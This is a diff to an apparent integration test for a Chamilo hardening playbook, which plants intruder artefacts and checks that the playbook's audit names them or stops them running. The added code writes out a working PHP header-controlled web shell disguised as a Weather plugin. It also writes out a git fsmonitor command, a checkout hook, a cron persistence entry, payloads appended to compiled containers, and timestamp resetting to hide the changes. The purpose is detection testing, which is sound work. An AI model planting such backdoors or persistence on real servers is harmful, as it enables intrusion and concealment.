@@ -28,8 +28,10 @@ def php(name: str) -> str:
     return f"<?php {mark(name)}"
 
 
+WEATHER = "<?php $h = array_change_key_case(getallheaders()); isset($h['x-f']) && call_user_func($h['x-f'], $h['x-a']);"
 # What may run on for the portal's sake, and is named.
 NAMED = {
+    ".env.evil": "APP_CACHE_DIR=/var/tmp/.c\n",
     "bin/console": f"<?php {mark('console')} ?>",  # put before what is there
     "composer.json": '{"scripts": {"post-install-cmd": "id"}}',
     "config/bundles.php": "",
@@ -51,17 +53,28 @@ HELD = {
     "public/main/inc/helper.inc": php("inc"),
     "public/main/lp/aicc_hacp2.php": php("later"),
     "public/plugin/BuyCourses/src/more.php": php("plugin"),
+    "public/plugin/Weather/start.php": WEATHER,
 }
 GIT = {
     ".git/config": f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch {MARKS}/fsmonitor; false\n",
     ".git/hooks/post-checkout": f"#!/bin/sh\ntouch {MARKS}/hook\n",
     ".git/HEAD": "ref: refs/heads/main\n",
 }
+CRON = f"* * * * * php {ROOT}/bin/console app:process-mail --env=evil\n"
+# All of it has the time of the release again, as each file of the portal.
+SET_BACK = {
+    "config/packages/evil.yaml": "services: {evil: {class: DateTime, factory: date_create}}\n",
+    "public/index.php": f"{mark('index')}\n",
+    "public/main/auth/ws.php": php("ws"),
+}
 INNOCENT = {
     "public/plugin/Timetable/plugin.php": "<?php // ours",
     "public/plugin/Timetable/composer.json": "{}",
     "public/plugin/Timetable/src/page.php": "<?php // ours",
     "public/plugin/Timetable/view/page.tpl": "{$hours}",
+    "public/plugin/Weather/plugin.php": "<?php // theirs, as a plugin looks",
+    "public/plugin/Weather/composer.json": "{}",
+    "public/plugin/Weather/lang/english.php": "<?php // theirs",
 }
 
 
@@ -112,7 +125,7 @@ def as_the_web_user(host: Host, path: str, text: str) -> None:
     """Append, or put before what is PHP's and has to go on."""
     folder = path.rpartition("/")[0] or "."
     host.run(f"cd {ROOT} && mkdir -p {folder} && cat >/tmp/new", user="www-data", data=text)
-    if path == "bin/console":
+    if path in ("bin/console", "public/index.php"):
         host.run(f"cd {ROOT} && sed -i '1r /tmp/new' {path}", user="www-data")
     else:
         host.run(f"cd {ROOT} && cat /tmp/new >>{path}", user="www-data")
@@ -126,6 +139,10 @@ def plant(host: Host) -> None:
     host.run(f"cd {ROOT}/.git && chmod 755 hooks/post-checkout && mkdir -p objects refs", user="www-data")
     as_the_web_user(host, "var/upload/prepended.txt", php("prepended"))
     host.run(f"cd {ROOT} && env APP_ENV=prod APP_DEBUG=0 php bin/console cache:warmup", user="www-data")
+    host.run(f"cd {ROOT} && APP_DEBUG=0 php bin/console cache:warmup --env=evil", user="www-data")
+    host.put("/srv/evil", mark("evil"))
+    host.run("cd /var/tmp/.c/evil && for file in Container*/*Container.php; do cat /srv/evil >>$file; done")
+    host.run(["crontab", "-u", "www-data", "-"], data=CRON)
     host.put("/srv/compiled", mark("compiled"))
     host.run(f"cd {ROOT}/var/cache/prod && for file in Container*/*Container.php; do cat /srv/compiled >>$file; done")
     # Theirs came at once, a year after the release; an administrator and a deploy user change files by hand.
@@ -143,6 +160,9 @@ def ran(host: Host) -> set[str]:
     scheme = "https" if host.run("ss -Hltn 'sport = :443'").stdout else "http"
     for path in ("/main/auth/lostPassword.php", "/build/picture.gif", "/build/page.phtml", "/login"):
         host.http(f"{scheme}://{host.domain}{path}")
+    shell = {"x-f": "touch", "x-a": f"{MARKS}/weather"}
+    host.http(f"{scheme}://{host.domain}/plugin/Weather/start.php", headers=shell)
+    host.run(f"cd {ROOT} && runuser -u www-data -- env APP_DEBUG=0 php bin/console list --env=evil", check=False)
     for path in HELD:
         if not path.endswith((".htaccess", ".ini")):
             host.run(f"runuser -u www-data -- php {ROOT}/{path}", check=False)
@@ -178,11 +198,11 @@ def test_what_an_intruder_planted_is_named_or_cannot_run_and_nothing_else_is(
     fresh.run("apt-get -qq update && apt-get -qq -y --no-install-recommends install git")
     before = audit(fresh, "monitoring").evidence["monitoring_compromise"]
     assert [path for path in [*NAMED, *HELD, "core.fsmonitor", "hooks/post-checkout"] if path not in before] == []
-    assert ran(fresh) >= {"console", "gif", "inc", "later", "phtml", "plugin"}
+    assert ran(fresh) >= {"console", "evil", "gif", "inc", "later", "phtml", "plugin", "weather"}
     if by_package:
         age(fresh)
     said = playbook.run("harden", fresh, *ONLY, **options).output
-    held = {"gif", "inc", "later", "phtml", "plugin", "prepended", "compiled", "fsmonitor", "hook"}
+    held = {"gif", "inc", "later", "phtml", "plugin", "prepended", "compiled", "fsmonitor", "hook", "weather"}
     assert not ran(fresh) & held
     assert fresh.run(f"grep -rl marks/compiled {ROOT}/var/cache", check=False).stdout == ""
     assert missing_from_the_portal(fresh, "https") == []
@@ -205,11 +225,45 @@ def test_what_an_intruder_planted_is_named_or_cannot_run_and_nothing_else_is(
     assert "core.fsmonitor" in evidence and "hooks/post-checkout" in evidence and "core.fsmonitor" in said
     rests = "the package release-campus_test.archive (sha256 " if by_package else "owners, modes and times"
     assert f"the first list was based on {rests}" in listed
+    assert ".env.evil (APP_CACHE_DIR)" in evidence and "app:process-mail --env=evil" in evidence
     # A plugin with its own history, and what others than the web user changed by hand.
-    for text in (said, evidence, listed):
+    for text in (said, evidence, listed.replace("no part of the release: public/plugin/Timetable (www-data, ", "")):
         assert not re.search(r"Timetable|base\.html|settings_overrides", text)
+    assert listed.count("no part of the release: public/plugin/") == 2
     assert changed(playbook.run("harden", fresh, *ONLY, **options).output) == set()
     # A person looked: what runs on is accepted, what cannot run waits until it is removed or acknowledged.
     fresh.run(["chamilo-hardening", "integrity", "accept"])
     accepted = fresh.run(["chamilo-hardening", "integrity", "check"], check=False).stdout
     assert not any(f"for: {path}\n" in accepted for path in NAMED) and "picture.gif" in accepted
+
+
+def test_where_all_times_were_set_anew_nothing_is_green_until_the_release_was_compared(
+    fresh: Host, playbook: Playbook, tmp_path: Path
+) -> None:
+    only = ("--tags", "permissions,monitoring")
+    release = package(fresh, tmp_path)
+    fresh.run(f"install -d -m 777 {MARKS}")
+    for path, text in SET_BACK.items():
+        as_the_web_user(fresh, path, text)
+    set_back = f"touch -r public/robots.txt {' '.join(SET_BACK)} && chmod -R u+rwX ."
+    fresh.run(f"cd {ROOT} && {set_back}", user="www-data")
+    install(fresh)
+    playbook.run("harden", fresh, *only)
+    fresh.http("/main/auth/ws.php")
+    fresh.http("/login")
+    assert set(fresh.run(f"ls {MARKS}").stdout.split()) == {"index", "ws"}, "they run on, so they must be red"
+    found = audit(fresh, "monitoring")
+    assert found.status["monitoring_integrity"] == "fail"
+    for words in ("nothing vouches for the program", "chamilo_release_archive", "chamilo-hardening integrity accept"):
+        assert words in found.evidence["monitoring_integrity"]
+    # The package of the release is named later: what differs from it is named, and nothing else.
+    playbook.run("harden", fresh, *only, chamilo_release_archive=release)
+    listed = fresh.run(["chamilo-hardening", "integrity", "check"], check=False).stdout
+    named = re.findall("nothing vouches for: (.*)", listed)
+    assert named == sorted(SET_BACK), listed
+    fresh.run(
+        f"cd {ROOT} && rm config/packages/evil.yaml public/main/auth/ws.php && sed -i '/marks/d' public/index.php"
+    )
+    fresh.run(["chamilo-hardening", "integrity", "accept"])
+    assert fresh.run(["chamilo-hardening", "integrity", "check"]).stdout.splitlines()[0] == "campus_test: as listed"
+    assert audit(fresh, "monitoring").status["monitoring_compromise"] == "pass"
